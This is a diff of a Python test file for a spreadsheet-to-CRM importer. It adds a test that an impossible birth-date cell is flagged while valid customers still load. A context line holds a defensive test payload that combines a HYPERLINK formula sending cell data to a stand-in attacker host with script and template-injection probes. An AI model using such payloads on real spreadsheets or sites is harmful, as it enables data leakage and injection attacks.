@@ -150,6 +150,20 @@ def test_a_misspelt_column_in_a_condition_is_asked_back(make_workbook: Make, crm
     assert "tier" in found(crm, book)["bad_condition"]
 
 
+def test_a_date_that_no_calendar_has_is_one_faulty_cell(tmp_path: Path, crm: Crm) -> None:
+    path = tmp_path / "book.xlsx"
+    with xlsxwriter.Workbook(str(path)) as book:
+        day = book.add_format({"num_format": "dd/mm/yyyy"})
+        sheet = book.add_worksheet("Pelanggan")
+        sheet.write_row(0, 0, ["ID Pelanggan", "Nama", "Tanggal lahir"])
+        sheet.write_row(1, 0, ["P1", "Budi"])
+        sheet.write_number(1, 2, -6281234567890, day)
+        sheet.write_row(2, 0, ["P2", "Sari"])
+        sheet.write_number(2, 2, 29000, day)
+    assert "Pelanggan!C2" in found(crm, path)["bad_date"]
+    assert crm("run nightly", path)[1]["customers"] == 2
+
+
 def test_hostile_text_stays_text(make_workbook: Make, crm: Crm) -> None:
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")<script>{{ 7*7 }}'
     customers = [CUSTOMERS[0], ["P1", hostile, "Bapak", "1980-11-20", "budi@example.com", "Indonesia"]]
